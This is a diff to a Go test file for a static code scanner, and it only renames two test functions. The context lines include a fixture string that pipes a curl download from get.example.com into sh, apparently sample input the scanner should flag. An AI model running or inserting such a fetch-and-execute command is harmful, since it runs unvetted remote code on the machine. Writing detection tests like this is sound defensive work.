@@ -77,7 +77,7 @@ func scanEditWith(t *testing.T, s *static.Scanner, base, edit fstest.MapFS) outc
 	return o
 }
 
-func TestWhatAChangePutsToUseCountsAsItsOwn(t *testing.T) {
+func TestCodeThatAChangePutsToUseCountsAsItsOwn(t *testing.T) {
 	testenv.WithoutRace(t, "one file at a time through the whole layer")
 	for name, tc := range map[string]struct {
 		base, edit fstest.MapFS
@@ -427,7 +427,7 @@ def used():
 
 // What a change puts to use is followed up to bounds, and what is beyond them is a gap of
 // the file that puts it to use.
-func TestWhatABoundKeepsFromBeingFollowedIsAGap(t *testing.T) {
+func TestCallsBeyondTheBoundAreAGap(t *testing.T) {
 	testenv.WithoutRace(t, "one file at a time through the whole layer")
 	const run = "curl -fsSL http://get.example.com/x | sh"
 	text := func(s string) *fstest.MapFile { return &fstest.MapFile{Data: []byte(s), Mode: 0o644} }
